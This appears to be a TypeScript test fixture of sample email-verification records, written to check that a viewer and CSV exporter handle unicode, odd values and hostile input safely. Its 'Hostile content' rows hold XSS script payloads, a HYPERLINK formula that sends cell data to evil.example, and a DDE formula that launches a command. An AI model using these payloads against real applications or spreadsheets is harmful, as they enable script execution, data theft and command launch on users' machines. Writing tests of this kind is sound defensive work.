import type { EmailRecord, Reason, Status, YesNoUnknown } from '../src/core/records';

/**
 * The `demo-small` batch: a hand-written set that exercises every corner a viewer or exporter
 * must survive — every status, every reason, every yes/no/unknown value, records with and without
 * the optional parts, unicode, HTML and script fragments, spreadsheet formulas, CSV metacharacters,
 * and a toxicity above the documented 0–5 range (another page of the docs says 0–100).
 */

type Flags = [YesNoUnknown, YesNoUnknown, YesNoUnknown];

/** A full record in the shape and key order of the API's own example. */
function full(
  email: string,
  status: Status,
  reason: Reason,
  extra: {
    name?: string;
    domain?: Flags;
    account?: Flags;
    dns?: { type: string; record?: string };
    provider?: string;
    score?: number;
    toxic?: string;
    toxicity?: number;
    retryAfter?: string;
  } = {},
): EmailRecord {
  const domainName = email.slice(email.lastIndexOf('@') + 1);
  const [acceptAll, disposable, free] = extra.domain ?? ['no', 'no', 'no'];
  const [role, disabled, fullMailbox] = extra.account ?? ['no', 'no', 'no'];
  const record: EmailRecord = { email, status, reason };
  if (extra.name !== undefined) record.name = extra.name;
  record.domain = { name: domainName, acceptAll, disposable, free };
  record.account = { role, disabled, fullMailbox };
  record.dns = extra.dns ?? { type: 'MX', record: `mx.${domainName}.` };
  record.provider = extra.provider ?? domainName;
  record.score =
    extra.score ?? (status === 'deliverable' ? 95 : status === 'risky' ? 55 : status === 'unknown' ? 30 : 0);
  record.toxic = extra.toxic ?? 'no';
  record.toxicity = extra.toxicity ?? 0;
  if (extra.retryAfter !== undefined) record.retryAfter = extra.retryAfter;
  return record;
}

export const DEMO_BATCH_ID = 'demo-small';

export const DEMO_RECORDS: readonly EmailRecord[] = [
  // Plain, realistic results: one per reason.
  full('john@usebouncer.com', 'deliverable', 'accepted_email', {
    dns: { type: 'MX', record: 'aspmx.l.google.com.' },
    provider: 'google.com',
    score: 100,
    toxic: 'unknown',
  }),
  full('jane.doe@gmail.com', 'deliverable', 'accepted_email', {
    name: 'Jane Doe',
    domain: ['no', 'no', 'yes'],
    provider: 'google.com',
  }),
  full('sales@acme-corp.com', 'risky', 'low_quality', { account: ['yes', 'no', 'no'], score: 40, toxicity: 2 }),
  full('anyone@catchall-company.io', 'risky', 'low_deliverability', { domain: ['yes', 'no', 'no'], score: 60 }),
  full('temp123@mailinator.com', 'risky', 'low_quality', {
    domain: ['no', 'yes', 'yes'],
    score: 20,
    toxic: 'yes',
    toxicity: 4,
  }),
  { email: 'not-an-email', status: 'undeliverable', reason: 'invalid_email', score: 0, toxic: 'unknown', toxicity: 0 },
  { email: 'someone@no-such-domain-xyz.invalid', status: 'undeliverable', reason: 'invalid_domain', score: 0 },
  full('gone@example.org', 'undeliverable', 'rejected_email', { account: ['no', 'yes', 'no'] }),
  full('full@example.net', 'undeliverable', 'rejected_email', { account: ['no', 'no', 'yes'], name: 'Full Mailbox' }),
  full('broken@dns-broken.example', 'undeliverable', 'dns_error', { dns: { type: 'NONE' }, provider: 'unknown' }),
  full('greylisted@slow-mx.example', 'unknown', 'unavailable_smtp', {
    domain: ['unknown', 'no', 'no'],
    account: ['unknown', 'unknown', 'unknown'],
    retryAfter: '2026-01-15T12:30:00.000Z',
  }),
  full('unsupported@legacy-mail.example', 'unknown', 'unsupported', { account: ['unknown', 'no', 'unknown'] }),
  full('timeout@very-slow.example', 'unknown', 'timeout', {
    domain: ['unknown', 'unknown', 'unknown'],
    retryAfter: '2026-01-15T13:00:00.000Z',
  }),
  full('mystery@example.com', 'unknown', 'unknown', { toxic: 'unknown' }),

  // Only the required fields; and a DNS block without its optional record.
  { email: 'minimal@example.com', status: 'deliverable', reason: 'accepted_email' },
  { email: 'minimal-unknown@example.com', status: 'unknown', reason: 'unknown' },
  { email: 'nodnsrecord@example.com', status: 'undeliverable', reason: 'dns_error', dns: { type: 'A' } },

  // Unicode in emails, names and domains.
  full('josé.garcía@correo.es', 'deliverable', 'accepted_email', { name: 'José García', score: 88 }),
  full('zoë@bücher.de', 'deliverable', 'accepted_email', { name: 'Zoë Müller', score: 91 }),
  full('李雷@例子.中国', 'risky', 'low_deliverability', { name: '李雷', domain: ['yes', 'no', 'no'] }),
  full('пользователь@пример.рф', 'unknown', 'unavailable_smtp', { name: 'Пётр Иванов' }),
  full('emoji😀@example.com', 'undeliverable', 'invalid_email', { name: 'Emoji 😀 User' }),
  full('rtl@example.com', 'deliverable', 'accepted_email', { name: 'مرحبا بالعالم' }),

  // Hostile content: must render as text and export inertly.
  full('"<img src=x onerror=alert(1)>"@example.com', 'undeliverable', 'invalid_email', { name: '<b>bold</b>' }),
  full('script@example.com', 'risky', 'low_quality', {
    name: '</script><script>alert(1)</script>',
    provider: '</script>',
  }),
  full('formula@example.com', 'deliverable', 'accepted_email', {
    name: '=HYPERLINK("http://evil.example/?q="&A1,"Click me")',
  }),
  full('plus@example.com', 'deliverable', 'accepted_email', { name: '+1' }),
  full('minus@example.com', 'risky', 'low_deliverability', { name: '-2', domain: ['yes', 'no', 'no'] }),
  full('at@example.com', 'unknown', 'timeout', { name: "@SUM(1+1)*cmd|' /C calc'!A0" }),
  full('=1+1@example.com', 'undeliverable', 'rejected_email', { name: '\tTab first' }),
  full('cr@example.com', 'deliverable', 'accepted_email', { name: '\rCarriage return first' }),

  // CSV metacharacters: commas, quotes, line breaks.
  full('quotes@example.com', 'deliverable', 'accepted_email', { name: 'Smith, "Johnny"\nJr.' }),
  full('comma@example.com', 'risky', 'low_quality', { name: 'Doe, Jane', account: ['yes', 'unknown', 'no'] }),

  // Extremes of the numeric fields.
  full('toxic@example.com', 'risky', 'low_quality', {
    toxic: 'yes',
    toxicity: 42,
    score: 5,
    name: 'Toxicity above five',
  }),
  full('zero@example.com', 'undeliverable', 'rejected_email', { score: 0, toxicity: 5, toxic: 'yes' }),
  full('perfect@example.com', 'deliverable', 'accepted_email', { score: 100, domain: ['no', 'unknown', 'yes'] }),

  // A few more ordinary rows so every status has company.
  full('mark@globex.com', 'deliverable', 'accepted_email', { provider: 'outlook.com', name: 'Mark Twain' }),
  full('lisa@initech.io', 'deliverable', 'accepted_email', { provider: 'google.com' }),
  full('info@umbrella.co.uk', 'risky', 'low_quality', { account: ['yes', 'no', 'unknown'] }),
  full('old.user@yahoo.com', 'undeliverable', 'rejected_email', { domain: ['no', 'no', 'yes'], provider: 'yahoo.com' }),
  full('slow@smtp-down.example', 'unknown', 'unavailable_smtp', { retryAfter: 'PT30M' }),
];
